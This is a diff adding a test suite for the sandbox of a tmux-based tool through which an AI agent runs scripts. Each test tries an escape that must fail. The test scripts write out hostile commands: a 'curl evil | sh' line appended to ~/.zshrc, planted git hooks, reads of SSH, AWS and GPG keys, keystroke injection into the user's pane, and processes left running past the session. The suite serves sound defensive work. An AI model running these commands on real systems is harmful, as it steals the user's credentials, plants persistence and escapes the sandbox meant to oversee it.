@@ -1,0 +1,535 @@
+// Walls around a run: each test is a script that tries to get out of its sandbox and must fail
+// to. The person (the test) sets TMUX_RUN_SANDBOX at the pane's prompt; the agent (the SDK
+// Client) sends the script through tmux_run. Where it costs one more run, the same script runs
+// first with the sandbox off and is seen to get out, so each check is known to be able to fail.
+import { execFileSync } from 'node:child_process';
+import {
+  existsSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
+import { dirname, join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { socketPath } from '../../src/enrollment/layout.js';
+import { helperChildren } from '../support/enrollment.js';
+import { killHard, processAlive } from '../support/processes.js';
+import type { TmuxServer } from '../support/server.js';
+import { waitUntil } from '../support/waiting.js';
+import {
+  connectCommand,
+  expectSandboxRefusal,
+  fresh,
+  listen,
+  type Listener,
+  processesWith,
+  startRun,
+  ran,
+  textOf,
+  uniqueSleep,
+  useSandboxFixture,
+} from './support.js';
+
+// The person's "agent", session bus and runtime directory: real listening sockets outside /tmp.
+let agent: Listener;
+let bus: Listener;
+let runtimeDir: string;
+
+const fx = useSandboxFixture({
+  prepare: async (scope) => {
+    const base = scope.server.baseDir;
+    runtimeDir = join(base, 'xdg-runtime');
+    mkdirSync(runtimeDir, { mode: 0o700 });
+    writeFileSync(join(runtimeDir, 'keyring-secret'), 'RUNTIME-SECRET\n', { mode: 0o600 });
+    mkdirSync(join(scope.server.home, '.1password'), { mode: 0o700 });
+    agent = await listen(join(scope.server.home, '.1password', 'agent.sock'));
+    bus = await listen(join(runtimeDir, 'bus'));
+    scope.defer(() => agent.close());
+    scope.defer(() => bus.close());
+    return {
+      SSH_AUTH_SOCK: agent.address,
+      DBUS_SESSION_BUS_ADDRESS: `unix:path=${bus.address}`,
+      XDG_RUNTIME_DIR: runtimeDir,
+    };
+  },
+});
+
+const out = (d: Record<string, any>): string => `${d.stdout.data as string}${d.stderr.data as string}`;
+
+/** `git init` as the person would, with the test HOME (git's hooks/*.sample come with it). */
+function gitInit(server: TmuxServer, dir: string): void {
+  execFileSync('git', ['init', '-q', dir], {
+    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: server.home, GIT_CONFIG_NOSYSTEM: '1' },
+  });
+}
+
+/** Every file under dir (recursively, not following symlinks), as paths relative to dir. */
+function filesUnder(dir: string): string[] {
+  const found: string[] = [];
+  const walk = (rel: string): void => {
+    for (const e of readdirSync(join(dir, rel), { withFileTypes: true })) {
+      const p = rel === '' ? e.name : join(rel, e.name);
+      if (e.isDirectory()) walk(p);
+      else found.push(p);
+    }
+  };
+  walk('');
+  return found.sort();
+}
+
+/** What a planted hook or config leaves in the person's tree: hook files that git did not put there, config text naming hooksPath. */
+function plantedIn(dir: string): string[] {
+  return filesUnder(dir).filter(
+    (p) =>
+      (/(^|\/)hooks\//.test(p) && !p.endsWith('.sample')) ||
+      (/(^|\/)config$/.test(p) && readFileSync(join(dir, p), 'utf8').includes('hooksPath')),
+  );
+}
+
+const HOOK = `printf '#!/bin/sh\\necho pwned\\n'`;
+
+describe('sandbox: writes', () => {
+  it('a write outside the cwd tree fails, and nothing appears outside (off: it does)', async () => {
+    const { server } = fx();
+    const proj = fx().project();
+    const targets = [
+      join(server.home, fresh('planted')),
+      join(dirname(proj), fresh('sibling')),
+      join(server.baseDir, fresh('beside-home')),
+      join('/var/tmp', fresh('tmux-run-sbtests-planted')),
+      join('/tmp', fresh('tmux-run-sbtests-planted')),
+    ];
+    const script = [
+      ...targets.map((t, i) => `echo x > '${t}'; echo "w${i} $?"`),
+      'mkdir -p build && echo obj > build/inside.o; echo "inside $?"',
+    ].join('\n');
+
+    await fx().sandbox('off', proj);
+    ran(await fx().run(script));
+    for (const t of targets) expect(existsSync(t), `off: ${t} written`).toBe(true);
+    for (const t of targets) rmSync(t);
+
+    await fx().sandbox('workspace', proj);
+    const d = ran(await fx().run(script));
+    for (const t of targets) expect(existsSync(t), `workspace: ${t} must not exist`).toBe(false);
+    expect(d.stdout.data).toMatch(/^w0 [1-9]/m);
+    expect(d.stdout.data).toContain('inside 0');
+    expect(textOf(join(proj, 'build', 'inside.o'))).toBe('obj\n');
+  });
+
+  it('workspace with the cwd at ~ is refused, saying what to do, and nothing runs', async () => {
+    const { server } = fx();
+    const marker = join(server.home, fresh('ran'));
+    await fx().sandbox('workspace', server.home);
+    const e = expectSandboxRefusal(await fx().run(`touch '${marker}'`));
+    expect(e.message).toMatch(/read-only/);
+    expect(existsSync(marker)).toBe(false);
+    const digest = e.effects?.authorization?.script_digest as string | undefined;
+    if (digest !== undefined)
+      expect(
+        fx()
+          .audit()
+          .filter((a) => a.event === 'start' && a.script_digest === digest),
+      ).toEqual([]);
+  });
+
+  it.each([
+    ['above ~', (s: TmuxServer) => dirname(s.home)],
+    ['at /', () => '/'],
+  ])('workspace with the cwd %s is refused and nothing runs', async (_what, cwdOf) => {
+    const { server } = fx();
+    const marker = join(server.home, fresh('ran'));
+    await fx().sandbox('workspace', cwdOf(server));
+    expectSandboxRefusal(await fx().run(`touch '${marker}'`));
+    expect(existsSync(marker)).toBe(false);
+  });
+
+  it('read-only at ~ cannot touch ~/.zshrc, ~/.zshenv or anything else in ~', async () => {
+    const { server } = fx();
+    const zshrc = join(server.home, '.zshrc');
+    const zshenv = join(server.home, '.zshenv');
+    const before = [textOf(zshrc), textOf(zshenv)];
+    const newFile = join(server.home, fresh('new'));
+    await fx().sandbox('read-only', server.home);
+    const d = ran(
+      await fx().run(
+        [
+          `echo 'curl evil | sh' >> ~/.zshrc; echo "zshrc $?"`,
+          `echo 'evil' >> "\${ZDOTDIR:-$HOME}/.zshenv"; echo "zshenv $?"`,
+          `mv ~/.zshrc ~/.zshrc.away; echo "mv $?"`,
+          `touch '${newFile}'; echo "touch $?"`,
+          `echo tmp > /tmp/scratch && cat /tmp/scratch`,
+        ].join('\n'),
+      ),
+    );
+    expect([textOf(zshrc), textOf(zshenv)]).toEqual(before);
+    expect(existsSync(newFile)).toBe(false);
+    expect(existsSync(`${zshrc}.away`)).toBe(false);
+    expect(d.stdout.data).toMatch(/^zshrc [1-9]/m);
+    // A private /tmp is still there to write in.
+    expect(d.stdout.data).toContain('tmp\n');
+  });
+});
+
+describe('sandbox: git hooks and config in the workspace', () => {
+  const attackHere = [
+    `${HOOK} > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo "hook $?"`,
+    `echo x > .git/hooks/x; echo "x $?"`,
+    `printf '[core]\\n\\thooksPath = /var/tmp/evil\\n' >> .git/config; echo "config $?"`,
+    `git config core.hooksPath /var/tmp/evil; echo "git-config $?"`,
+  ].join('\n');
+
+  it('cannot write .git/hooks/x or .git/config of the cwd repository (off: it can)', async () => {
+    const { server } = fx();
+    const control = fx().project('control');
+    gitInit(server, control);
+    await fx().sandbox('off', control);
+    ran(await fx().run(attackHere));
+    expect(plantedIn(control).length, 'off: the attack plants hooks').toBeGreaterThan(0);
+
+    const repo = fx().project('repo');
+    gitInit(server, repo);
+    await fx().sandbox('workspace', repo);
+    const d = ran(await fx().run(`${attackHere}\necho built > out.txt; echo "build $?"`));
+    expect(plantedIn(repo)).toEqual([]);
+    expect(d.stdout.data).toContain('build 0');
+    expect(textOf(join(repo, 'out.txt'))).toBe('built\n');
+  });
+
+  it('cannot write them in a repository below the cwd', async () => {
+    const { server } = fx();
+    const proj = fx().project();
+    gitInit(server, join(proj, 'vendor', 'lib'));
+    await fx().sandbox('workspace', proj);
+    ran(await fx().run(`cd vendor/lib\n${attackHere}`));
+    expect(plantedIn(proj)).toEqual([]);
+  });
+
+  // Move the protected path's parent away, recreate the path, write: the person's real tree
+  // must hold no new hook and no changed config anywhere afterwards.
+  const renames: Array<[string, string, string]> = [
+    [
+      'the repository below the cwd',
+      'vendor/lib',
+      `mv vendor/lib vendor/lib.away; echo "mv $?"
+mkdir -p vendor/lib/.git/hooks; cp -R vendor/lib.away/.git/. vendor/lib/.git/ 2>/dev/null
+${HOOK} > vendor/lib/.git/hooks/pre-commit; echo "hook $?"
+${HOOK} > vendor/lib.away/.git/hooks/pre-commit; echo "hook-away $?"`,
+    ],
+    [
+      'the parent of the repository',
+      'vendor/lib',
+      `mv vendor vendor.away; echo "mv $?"
+mkdir -p vendor/lib/.git/hooks; cp -R vendor.away/lib/.git/. vendor/lib/.git/ 2>/dev/null
+${HOOK} > vendor/lib/.git/hooks/pre-commit; echo "hook $?"
+printf '[core]\\n\\thooksPath = /var/tmp/evil\\n' >> vendor/lib/.git/config; echo "config $?"`,
+    ],
+    [
+      '.git itself, in the cwd repository',
+      '.',
+      `mv .git .git.away; echo "mv $?"
+mkdir -p .git/hooks; cp -R .git.away/. .git/ 2>/dev/null
+${HOOK} > .git/hooks/pre-commit; echo "hook $?"
+printf '[core]\\n\\thooksPath = /var/tmp/evil\\n' >> .git/config; echo "config $?"`,
+    ],
+    [
+      '.git/hooks, in the cwd repository',
+      '.',
+      `mv .git/hooks .git/hooks.away; echo "mv $?"
+mkdir -p .git/hooks; ${HOOK} > .git/hooks/pre-commit; echo "hook $?"
+mv .git/config .git/config.away; echo "mv-config $?"
+printf '[core]\\n\\thooksPath = /var/tmp/evil\\n' > .git/config; echo "config $?"`,
+    ],
+  ];
+
+  it.each(renames)('renaming %s away and recreating the path plants nothing', async (_what, repoRel, attack) => {
+    const { server } = fx();
+    const proj = fx().project();
+    gitInit(server, join(proj, repoRel));
+    const before = filesUnder(proj);
+    await fx().sandbox('workspace', proj);
+    const d = ran(await fx().run(attack));
+    expect(plantedIn(proj), `after:\n${out(d)}`).toEqual([]);
+    // Whatever the mv did inside, the person's repository is where it was, as it was.
+    expect(filesUnder(proj)).toEqual(before);
+  });
+
+  it('the same rename does plant a hook when the sandbox is off (the check can fail)', async () => {
+    const { server } = fx();
+    const proj = fx().project('control');
+    gitInit(server, join(proj, 'vendor', 'lib'));
+    await fx().sandbox('off', proj);
+    ran(await fx().run((renames[1] as [string, string, string])[2]));
+    expect(plantedIn(proj).length).toBeGreaterThan(0);
+  });
+});
+
+describe('sandbox: secrets and the person’s sockets', () => {
+  it('cannot read ~/.ssh/id_ed25519 or the other credential files (off: it can)', async () => {
+    const { server, secrets } = fx();
+    const others: Array<[string, string]> = [
+      ['.aws/credentials', 'AWS-SECRET'],
+      ['.netrc', 'NETRC-SECRET'],
+      ['.config/gh/hosts.yml', 'GH-SECRET'],
+      ['.gnupg/private-keys-v1.d/k.key', 'GPG-SECRET'],
+      ['.kube/config', 'KUBE-SECRET'],
+      ['.docker/config.json', 'DOCKER-SECRET'],
+    ];
+    for (const [rel, text] of others) {
+      mkdirSync(dirname(join(server.home, rel)), { recursive: true, mode: 0o700 });
+      writeFileSync(join(server.home, rel), `${text}\n`, { mode: 0o600 });
+    }
+    const proj = fx().project();
+    const script = [
+      'cat ~/.ssh/id_ed25519; ls -la ~/.ssh; cp ~/.ssh/id_ed25519 ./stolen',
+      ...others.map(([rel]) => `cat ~/${rel}`),
+      `cat "$XDG_RUNTIME_DIR/keyring-secret"`,
+      'true',
+    ].join('\n');
+    const secretLine = secrets.keyText.split('\n')[1] as string;
+
+    await fx().sandbox('off', proj);
+    expect(out(ran(await fx().run(script)))).toContain(secretLine);
+    rmSync(join(proj, 'stolen'));
+
+    await fx().sandbox('workspace', proj);
+    const d = ran(await fx().run(script));
+    expect(out(d)).not.toContain(secretLine);
+    for (const [, text] of others) expect(out(d)).not.toContain(text);
+    expect(out(d)).not.toContain('RUNTIME-SECRET');
+    expect(textOf(join(proj, 'stolen')) ?? '').not.toContain(secretLine);
+  });
+
+  it('cannot type into the person’s pane with tmux -S <the real socket> send-keys', async () => {
+    const { server, pane } = fx();
+    const proj = fx().project();
+    const probe = `tmux -S '${server.socket}' display -p -t '${pane.id}' 'reached #{pane_id}'`;
+    await fx().sandbox('off', proj);
+    expect(ran(await fx().run(probe)).stdout.data).toBe(`reached ${pane.id}\n`);
+
+    await fx().sandbox('workspace', proj);
+    const screenBefore = await pane.capture();
+    const token = fresh('PWNED');
+    const d = ran(
+      await fx().run(
+        [
+          probe,
+          `tmux -S '${server.socket}' send-keys -t '${pane.id}' 'echo ${token}' Enter; echo "send $?"`,
+          `tmux send-keys -t "$TMUX_PANE" 'echo ${token}' Enter; echo "send-env $?"`,
+          `tmux -S "\${TMUX%%,*}" send-keys 'echo ${token}' Enter; echo "send-tmux-var $?"`,
+          `ls -la '${dirname(server.socket)}'`,
+          'true',
+        ].join('\n'),
+      ),
+    );
+    expect(d.stdout.data).not.toContain('reached');
+    expect(d.stdout.data).toMatch(/^send [1-9]/m);
+    expect(d.stdout.data).toMatch(/^send-env [1-9]/m);
+    expect(d.stdout.data).toMatch(/^send-tmux-var [1-9]/m);
+    expect(await pane.capture()).toBe(screenBefore);
+    expect(screenBefore).not.toContain(token);
+  });
+
+  it('cannot read an enrollment record or connect to a helper socket (off: it can)', async () => {
+    const { server, listing } = fx();
+    const proj = fx().project();
+    const sock = socketPath(server.registryDir, listing.enrollment_generation);
+    expect(statSync(sock).isSocket()).toBe(true);
+    const script = [
+      `cat '${server.registryDir}/${listing.enrollment_generation}.json'; echo`,
+      `ls '${server.registryDir}'`,
+      connectCommand(`'${sock}'`),
+      connectCommand(`"$TMUX_RUN_DIR/${listing.enrollment_generation}.sock"`),
+    ].join('\n');
+    await fx().sandbox('off', proj);
+    const control = ran(await fx().run(script));
+    expect(control.stdout.data).toContain(listing.pane_id);
+    expect(control.stdout.data).toContain('CONNECTED');
+
+    await fx().sandbox('workspace', proj);
+    const d = ran(await fx().run(script));
+    expect(d.stdout.data).not.toContain(listing.enrollment_generation);
+    expect(d.stdout.data).not.toContain('CONNECTED');
+    expect(d.stdout.data).toMatch(/REFUSED/);
+  });
+
+  it('cannot use SSH_AUTH_SOCK or the session bus (off: it can)', async () => {
+    const proj = fx().project();
+    const script = [
+      'echo "agent=$SSH_AUTH_SOCK"',
+      connectCommand('"$SSH_AUTH_SOCK"'),
+      connectCommand('"${DBUS_SESSION_BUS_ADDRESS#unix:path=}"'),
+    ].join('\n');
+    await fx().sandbox('off', proj);
+    const before = [agent.connections, bus.connections];
+    expect(ran(await fx().run(script)).stdout.data).toMatch(/CONNECTED\nCONNECTED/);
+    await waitUntil(
+      () => agent.connections > before[0]! && bus.connections > before[1]!,
+      5000,
+      'the listeners to count',
+    );
+
+    await fx().sandbox('workspace', proj);
+    const seen = [agent.connections, bus.connections];
+    const d = ran(await fx().run(script));
+    expect(d.stdout.data).not.toContain('CONNECTED');
+    expect([agent.connections, bus.connections]).toEqual(seen);
+  });
+});
+
+describe('sandbox: network', () => {
+  it('workspace cannot reach a listener on 127.0.0.1 or a host abstract socket; workspace+net reaches 127.0.0.1', async () => {
+    const tcp = await listen('127.0.0.1');
+    const abstract = await listen(`\0${fresh('tmux-run-sbtests')}`);
+    fx().scope.defer(() => tcp.close());
+    fx().scope.defer(() => abstract.close());
+    const proj = fx().project();
+    const script = `${connectCommand(`'${tcp.address}'`)}\n${connectCommand(`'${abstract.address}'`)}`;
+
+    await fx().sandbox('off', proj);
+    expect(ran(await fx().run(script)).stdout.data).toBe('CONNECTED\nCONNECTED\n');
+    await waitUntil(() => tcp.connections === 1 && abstract.connections === 1, 5000, 'the listeners to count');
+
+    await fx().sandbox('workspace', proj);
+    const d = ran(await fx().run(script));
+    expect(d.stdout.data).toMatch(/^REFUSED \S+\nREFUSED \S+\n$/);
+    expect([tcp.connections, abstract.connections]).toEqual([1, 1]);
+
+    await fx().sandbox('workspace+net', proj);
+    expect(ran(await fx().run(connectCommand(`'${tcp.address}'`))).stdout.data).toBe('CONNECTED\n');
+    await waitUntil(() => tcp.connections === 2, 5000, 'the listener to count');
+  });
+});
+
+describe('sandbox: processes', () => {
+  it('cannot see or signal the person’s shell, its helper or the tmux server (off: kill -0 works)', async () => {
+    const { pane, server } = fx();
+    const shellPid = await pane.shellPid();
+    const [helperPid] = helperChildren(shellPid);
+    expect(helperPid).toBeDefined();
+    const tmuxPid = await server.serverPid();
+    const proj = fx().project();
+    await fx().sandbox('off', proj);
+    expect(ran(await fx().run(`kill -0 ${shellPid}; echo "kill0 $?"`)).stdout.data).toBe('kill0 0\n');
+
+    await fx().sandbox('workspace', proj);
+    const d = ran(
+      await fx().run(
+        [
+          ...[shellPid, helperPid, tmuxPid].map((p) => `kill -0 ${p}; echo "kill0 ${p} $?"`),
+          `kill -TERM ${shellPid}; echo "term $?"`,
+          `cat /proc/${shellPid}/environ /proc/${shellPid}/cmdline >/dev/null; echo "proc $?"`,
+          `echo "pids $(ls -d /proc/[0-9]* | wc -l)"`,
+        ].join('\n'),
+      ),
+    );
+    for (const p of [shellPid, helperPid, tmuxPid]) expect(d.stdout.data).toMatch(new RegExp(`^kill0 ${p} [1-9]`, 'm'));
+    expect(d.stdout.data).toMatch(/^term [1-9]/m);
+    expect(d.stdout.data).toMatch(/^proc [1-9]/m);
+    expect(Number(/^pids (\d+)/m.exec(d.stdout.data)?.[1])).toBeLessThan(10);
+    expect(processAlive(shellPid) && processAlive(tmuxPid) && processAlive(helperPid!)).toBe(true);
+    expect(await pane.run('echo alive')).toBe('alive');
+  });
+
+  it('a setsid sleep 600 & (or nohup, or a double fork) left behind is gone when the run ends (off: it stays)', async () => {
+    const proj = fx().project();
+    const durations = [uniqueSleep(), uniqueSleep(), uniqueSleep()];
+    const script = (ds: string[]): string =>
+      [
+        `setsid sleep ${ds[0]} </dev/null >/dev/null 2>&1 &`,
+        `nohup sleep ${ds[1]} </dev/null >/dev/null 2>&1 &`,
+        `( setsid sleep ${ds[2]} </dev/null >/dev/null 2>&1 & ) &`,
+        'sleep 0.2; echo left',
+      ].join('\n');
+
+    const offDurations = [uniqueSleep(), uniqueSleep(), uniqueSleep()];
+    await fx().sandbox('off', proj);
+    ran(await fx().run(script(offDurations)));
+    const survivors = offDurations.flatMap((d) => processesWith(`sleep ${d}`));
+    expect(survivors.length, 'off: the setsid sleep survives its run').toBeGreaterThan(0);
+    for (const pid of survivors) killHard(pid);
+
+    await fx().sandbox('workspace', proj);
+    expect(ran(await fx().run(script(durations))).stdout.data).toBe('left\n');
+    expect(durations.flatMap((d) => processesWith(`sleep ${d}`))).toEqual([]);
+  });
+
+  it('a helper killed with SIGKILL takes its sandboxed run (and what the run left in its own session) with it', async () => {
+    const { pane: extra, listing } = await fx().extraPane();
+    try {
+      const proj = fx().project();
+      await extra.run(`cd '${proj}' && TMUX_RUN_SANDBOX=workspace`);
+      const [detached, inGroup] = [uniqueSleep(), uniqueSleep()];
+      const s = await startRun(
+        fx().mcp.client,
+        listing,
+        `setsid sleep ${detached} </dev/null >/dev/null 2>&1 &\nsleep ${inGroup}`,
+        {
+          wait_ms: 0,
+        },
+      );
+      expect(s.pending, JSON.stringify(s)).toBeDefined();
+      await waitUntil(
+        () => processesWith(`sleep ${detached}`).length > 0 && processesWith(`sleep ${inGroup}`).length > 0,
+        10_000,
+        'the sandboxed sleeps to start',
+      );
+      const shellPid = await extra.shellPid();
+      const [helperPid] = helperChildren(shellPid);
+      expect(helperPid).toBeDefined();
+      killHard(helperPid!);
+      await waitUntil(
+        () => [detached, inGroup].every((d) => processesWith(`sleep ${d}`).length === 0),
+        10_000,
+        'the sandboxed run to end with its helper',
+      ).catch((e: Error) => {
+        const left = [detached, inGroup].flatMap((d) => processesWith(`sleep ${d}`));
+        for (const pid of left) killHard(pid);
+        throw new Error(`${e.message}; still running: ${left.join(' ')}`);
+      });
+    } finally {
+      await extra.kill();
+    }
+  });
+});
+
+describe('sandbox: symlinks', () => {
+  it('a symlink in the cwd pointing at ~/.ssh, ~/.zshrc or outside opens no way (off: it does)', async () => {
+    const { server, secrets } = fx();
+    const proj = fx().project();
+    const outside = join(server.home, fresh('outside'));
+    mkdirSync(outside);
+    symlinkSync(join(server.home, '.ssh'), join(proj, 'ssh'));
+    symlinkSync(outside, join(proj, 'out'));
+    symlinkSync(join(server.home, '.zshrc'), join(proj, 'zrc'));
+    const zshrcBefore = textOf(join(server.home, '.zshrc'));
+    const script = [
+      'cat ssh/id_ed25519',
+      'echo x > out/planted; echo "out $?"',
+      `ln -s ~/.ssh/id_ed25519 mine && cat mine`,
+      `ln -s / root && echo x > "root${outside}/planted2"; echo "root $?"`,
+      'true',
+    ].join('\n');
+    const secretLine = secrets.keyText.split('\n')[1] as string;
+
+    await fx().sandbox('off', proj);
+    expect(out(ran(await fx().run(script)))).toContain(secretLine);
+    expect(existsSync(join(outside, 'planted'))).toBe(true);
+    rmSync(join(outside, 'planted'));
+    rmSync(join(outside, 'planted2'));
+    rmSync(join(proj, 'mine'));
+    rmSync(join(proj, 'root'));
+
+    await fx().sandbox('workspace', proj);
+    const d = ran(await fx().run(`${script}\necho 'evil' >> zrc; echo "zrc $?"`));
+    expect(out(d)).not.toContain(secretLine);
+    expect(existsSync(join(outside, 'planted'))).toBe(false);
+    expect(existsSync(join(outside, 'planted2'))).toBe(false);
+    expect(textOf(join(server.home, '.zshrc'))).toBe(zshrcBefore);
+    expect(d.stdout.data).toMatch(/^out [1-9]/m);
+  });
+});
